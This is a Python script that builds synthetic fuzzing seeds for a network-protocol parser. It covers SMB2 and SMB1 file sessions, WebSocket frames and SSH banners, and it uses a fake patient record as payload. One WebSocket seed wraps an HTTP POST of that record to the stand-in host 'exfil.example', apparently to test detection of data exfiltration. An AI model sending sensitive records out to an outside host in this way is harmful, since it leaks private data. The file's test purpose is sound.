#!/usr/bin/env python3
"""Write synthetic SMB2 and SMB1 sessions as seeds for fuzz_smb (records of direction,
length, bytes; see fuzz_smb.c). Usage: make_smb_seeds.py OUTDIR. Seeds are committed."""
import os
import struct
import sys

out = sys.argv[1]
os.makedirs(out, exist_ok=True)


def nb(msg):
    return struct.pack(">I", len(msg)) + msg


def smb2(cmd, mid, body, resp=False, tree=1, status=0, nxt=0, flags=0):
    h = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 1, status, cmd, 1,
                                 flags | (1 if resp else 0), nxt, mid, 0, tree, 0x11, b"\0" * 16)
    return h + body


FID = bytes(range(16))


def session2(data, big=False):
    recs = []
    path = "\\\\srv\\share".encode("utf-16le")
    recs.append((0, nb(smb2(3, 1, struct.pack("<HHHH", 9, 0, 72, len(path)) + path))))
    recs.append((1, nb(smb2(3, 1, struct.pack("<HBBIII", 16, 1, 0, 0, 0, 0x1f01ff), True, tree=5))))
    name = "dir\\patients.csv".encode("utf-16le")
    body = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x12019f, 0x80, 7, 5, 0x40,
                       120, len(name), 0, 0) + name
    recs.append((0, nb(smb2(5, 2, body, tree=5))))
    ft = 132000000000000000
    body = struct.pack("<HBBIQQQQQQII16sII", 89, 0, 0, 2, ft, ft, ft, ft, 0, 0, 0x80, 0, FID, 0, 0)
    recs.append((1, nb(smb2(5, 2, body, True, tree=5))))
    wbody = struct.pack("<HHIQ16sIIHHI", 49, 112, len(data), 0, FID, 0, 0, 0, 0, 0) + data
    recs.append((0, nb(smb2(9, 3, wbody, tree=5))))
    recs.append((1, nb(smb2(9, 3, struct.pack("<HHIIHH", 17, 0, len(data), 0, 0, 0), True))))
    recs.append((0, nb(smb2(8, 4, struct.pack("<HBBIQ16sIIIHH", 49, 0, 0, len(data), 0, FID, 1, 0, 0,
                                              0, 0) + b"\0", tree=5))))
    recs.append((1, nb(smb2(8, 4, struct.pack("<HBBIII", 17, 80, 0, len(data), 0, 0) + data, True))))
    recs.append((0, nb(smb2(6, 5, struct.pack("<HHI16s", 24, 1, 0, FID), tree=5))))
    recs.append((1, nb(smb2(6, 5, struct.pack("<HHIQQQQQQI", 60, 1, 0, ft, ft, ft, ft, 0,
                                              len(data), 0x80), True))))
    return recs


def smb1(cmd, mid, words, data, resp=False, tid=7, unicode=True):
    h = b"\xffSMB" + struct.pack("<BIBHH8sHHHHH", cmd, 0, 0x80 if resp else 0x18,
                                 0xc807 if unicode else 0x4807, 0, b"\0" * 8, 0, tid, 1, 100, mid)
    return h + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data


def session1(data):
    recs = []
    path = b"\0" + "\\\\SRV\\C$".encode("utf-16le") + b"\0\0" + b"?????\0"
    recs.append((0, nb(smb1(0x75, 1, struct.pack("<BBHHH", 0xff, 0, 0, 0, 1), path, tid=0))))
    recs.append((1, nb(smb1(0x75, 1, struct.pack("<BBHH", 0xff, 0, 0, 1), b"A:\0", True))))
    name = b"\0" + "\\scans\\study.dcm".encode("utf-16le") + b"\0\0"
    w = struct.pack("<BBHBHIIIQIIIIIB", 0xff, 0, 0, 0, len(name), 0, 0, 0x2019f, 0, 0x80, 7, 5,
                    0x40, 2, 0)
    recs.append((0, nb(smb1(0xa2, 2, w, name))))
    ft = 132000000000000000
    w = struct.pack("<BBHBHIQQQQIQQHHB", 0xff, 0, 0, 0, 0x4000, 1, ft, ft, ft, ft, 0x80, 0,
                    len(data), 0, 0, 0)
    recs.append((1, nb(smb1(0xa2, 2, w, b"", True))))
    w = struct.pack("<BBHHIIHHHHHI", 0xff, 0, 0, 0x4000, 0, 0, 0, 0, 0, len(data), 64, 0)
    recs.append((0, nb(smb1(0x2f, 3, w, b"\0" + data))))
    w = struct.pack("<BBHHHHHHH4s", 0xff, 0, 0, len(data), 0, 0, 0, 0, 0, b"\0" * 4)
    recs.append((1, nb(smb1(0x2f, 3, w, b"", True))))
    w = struct.pack("<BBHHIHHIHI", 0xff, 0, 0, 0x4000, 0, len(data), len(data), 0, 0, 0)
    recs.append((0, nb(smb1(0x2e, 4, w, b""))))
    w = struct.pack("<BBHHHHHHH8s", 0xff, 0, 0, 0, 0, 0, len(data), 60, 0, b"\0" * 8)
    recs.append((1, nb(smb1(0x2e, 4, w, b"\0" + data, True))))
    recs.append((0, nb(smb1(0x04, 5, struct.pack("<HI", 0x4000, 0), b""))))
    recs.append((1, nb(smb1(0x04, 5, b"", b"", True))))
    return recs


def write(name, step, recs):
    with open(os.path.join(out, name), "wb") as f:
        f.write(bytes([step]))
        for d, b in recs:
            f.write(struct.pack("<BH", d, len(b)) + b)


PHI = b"MRN,Name,DOB\r\n100234,DOE^JANE,19610412\r\n"
write("smb2-session", 0x7f, session2(PHI))
write("smb2-session-small-pieces", 0x00, session2(PHI))
write("smb2-session-gap", 0x83, session2(PHI * 20))
write("smb1-session", 0x7f, session1(PHI))
write("smb1-session-pieces", 0x01, session1(PHI * 3))


def ws_frame(payload, opcode=2, mask=None, fin=True):
    b0 = (0x80 if fin else 0) | opcode
    n = len(payload)
    if n < 126:
        h = bytes([b0, (0x80 if mask else 0) | n])
    elif n < 65536:
        h = bytes([b0, (0x80 if mask else 0) | 126]) + struct.pack(">H", n)
    else:
        h = bytes([b0, (0x80 if mask else 0) | 127]) + struct.pack(">Q", n)
    if mask:
        payload = bytes(c ^ mask[i & 3] for i, c in enumerate(payload))
        h += mask
    return h + payload


# WebSocket seeds (written beside the SMB ones' directory: OUTDIR/../websocket)
wsout = os.path.join(os.path.dirname(os.path.abspath(out)), "websocket")
os.makedirs(wsout, exist_ok=True)
req = b"POST /upload HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: %d\r\n\r\n" % len(PHI)
resp = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
for name, step, recs in (
        ("http-in-websocket", 0x7f, [(0, ws_frame(req + PHI, mask=b"\x11\x22\x33\x44")),
                                     (1, ws_frame(resp))]),
        ("fragmented-and-control", 0x00, [(0, ws_frame(req[:10], 2, b"abcd", False)),
                                          (0, ws_frame(b"", 9, b"abcd")),
                                          (0, ws_frame(req[10:] + PHI, 0, b"wxyz")),
                                          (1, ws_frame(b"x" * 300)), (1, ws_frame(b"", 8))]),
        ("long-frame", 0x85, [(0, ws_frame(req + PHI * 1000, mask=b"\x01\x02\x03\x04"))])):
    with open(os.path.join(wsout, name), "wb") as f:
        f.write(bytes([step]))
        for d, b in recs:
            f.write(struct.pack("<BH", d, len(b) & 0xffff) + b)

# SSH seeds (OUTDIR/../ssh): version exchanges, a server's lines before its version, an
# over-long line, a client that is not SSH after all.
sshout = os.path.join(os.path.dirname(os.path.abspath(out)), "ssh")
os.makedirs(sshout, exist_ok=True)
kexinit = bytes([0, 0, 1, 12, 10, 20]) + b"\x00" * 16 + b"\x00\x00\x00\x11curve25519-sha256"
for name, step, recs in (
        ("openssh", 0x7f, [(1, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
                           (0, b"SSH-2.0-paramiko_3.4.0\r\n" + kexinit), (1, kexinit)]),
        ("banner-lines-first", 0x00, [(1, b"Welcome\r\nauthorised use only\r\nSSH-1.99-Cisco-1.25\r\n"),
                                      (0, b"SSH-2.0-PuTTY_Release_0.78\r\n")]),
        ("long-line", 0x83, [(1, b"SSH-2.0-" + b"A" * 600 + b"\r\n"), (0, b"SSH-2.0-x\n")]),
        ("not-ssh-client", 0x01, [(0, b"SSH-\x00\xff\r\n"), (0, b"GET / HTTP/1.1\r\n\r\n")])):
    with open(os.path.join(sshout, name), "wb") as f:
        f.write(bytes([step]))
        for d, b in recs:
            f.write(struct.pack("<BH", d, len(b) & 0xffff) + b)
